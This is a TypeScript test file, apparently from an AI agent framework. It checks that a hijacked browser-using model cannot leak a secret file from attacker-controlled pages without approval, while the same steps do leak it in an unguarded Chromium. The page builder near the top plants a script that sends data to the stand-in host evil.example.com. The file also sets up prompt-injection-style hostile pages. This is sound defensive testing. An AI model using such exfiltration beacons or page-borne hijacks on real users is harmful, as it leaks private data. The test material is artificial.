/**
 * A hijacked model with a browser, on pages of whoever took it over: each attack is made through a real worker and a real
 * Chromium, where nothing private may leave without a yes, and in a Chromium with nobody in between, where it must.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type CanaryWeb, openCanaryWeb } from '../../support/canary-web.ts';
import { browserProgram } from '../../support/dashboard.ts';
import { openScripted, type Scripted } from '../../support/scripted-tasks.ts';
import { browserAttacks, type BrowserStep, SECRET } from './browser-attacks.ts';

const PATIENCE_MS = 600_000;
const TOOLS = ['open', 'look', 'wait', 'back', 'click', 'type', 'choose', 'press', 'send'].map(
  (name) => `browser.${name}`,
);
const tried = browserAttacks.map((attack, index) => ({ ...attack, id: `w${index}x`, bareId: `n${index}x` }));
const pageOf = (id: string): string => `http://form.example.net/${id}`;

function pageAt(url: string): string | undefined {
  const id = /^http:\/\/form\.example\.net\/(\w+)/.exec(url)?.[1];
  const attack = tried.find((each) => each.id === id || each.bareId === id);
  if (attack === undefined) return undefined;
  const tell = `const ID = '${id}', tell = (word) => fetch('http://evil.example.com/?q=' + ID + '-' + word, { mode: 'no-cors', keepalive: true });`;
  return `<!doctype html><title>Form</title><label>Word <input></label>${attack.body ?? ''}<script>${tell}\n${attack.script ?? ''}</script>`;
}

describe.skipIf(browserProgram === null)('a hijacked model with a browser', { timeout: PATIENCE_MS }, () => {
  let web: CanaryWeb;
  let scripted: Scripted;
  beforeAll(async () => {
    web = await openCanaryWeb(pageAt);
    scripted = await openScripted({ config: { browser: { on: true } }, tools: TOOLS });
    writeFileSync(scripted.story.desk('private.txt'), `${SECRET}\n`);
    await scripted.run(
      tried.map(({ id, text = '', front = '', steps }) => ({
        id,
        front,
        text: `Look at ${pageOf(id)} and ${pageOf(id)}/2 . ${text}`,
        steps: () => [{ tool: 'files.read', path: 'private.txt' }, ...steps(pageOf(id), id)],
      })),
      { OKA_EGRESS: web.address },
    );
    for (const { bareId, steps } of tried) await withoutGuard(steps(pageOf(bareId), bareId), web);
  }, PATIENCE_MS);
  afterAll(async () => {
    await scripted.story[Symbol.asyncDispose]();
    await web[Symbol.asyncDispose]();
  });
  const isTold = (id: string): boolean => web.requests.some((each) => each.includes(`${id}-${SECRET}`));

  it.each(tried)('$name: nothing leaves without a yes', ({ id }) => expect(isTold(id)).toBe(false));
  it.each(tried)('$name: it leaves without the guard', ({ bareId }) => expect(isTold(bareId)).toBe(true));
  it('every attack was tried', async () => {
    const called = (await scripted.story.eventsOf('call.started')).flatMap(({ data }) =>
      data.tool === 'browser.open' ? [data.call] : [],
    );
    for (const { id, name } of tried)
      expect(
        called.some((each) => each.startsWith(`${id}.`)),
        name,
      ).toBe(true);
  });
});

/** Does the same in a browser that asks nobody. */
async function withoutGuard(steps: readonly BrowserStep[], { address }: CanaryWeb): Promise<void> {
  const folder = mkdtempSync(join(tmpdir(), 'oka-bare-browser-'));
  const context = await chromium.launchPersistentContext(folder, {
    ...(browserProgram === null ? {} : { executablePath: browserProgram }),
    chromiumSandbox: false,
    args: [`--proxy-server=http://${address}`],
  });
  try {
    for (const step of steps) {
      const page = context.pages().at(-1) ?? (await context.newPage());
      await take(page, step);
      await page.waitForTimeout(300);
    }
  } finally {
    await context.close();
    rmSync(folder, { recursive: true, force: true });
  }
}

async function take(page: Page, { tool, input }: BrowserStep): Promise<unknown> {
  const text = (field: string): string => String(input[field] ?? '');
  if (tool === 'browser.open') return page.goto(text('url'));
  if (tool === 'browser.press') return page.keyboard.press(text('key'));
  if (tool === 'browser.back') return page.goBack();
  if (tool === 'browser.wait') return page.waitForTimeout(Number(input['seconds']) * 1000);
  const on = text('on').replace('field ', '');
  if (tool === 'browser.click') return page.getByText(on, { exact: true }).click();
  if (tool === 'browser.choose') return page.getByLabel(on).selectOption(text('option'));
  return tool === 'browser.type' ? page.getByLabel(on).fill(text('text')) : null;
}
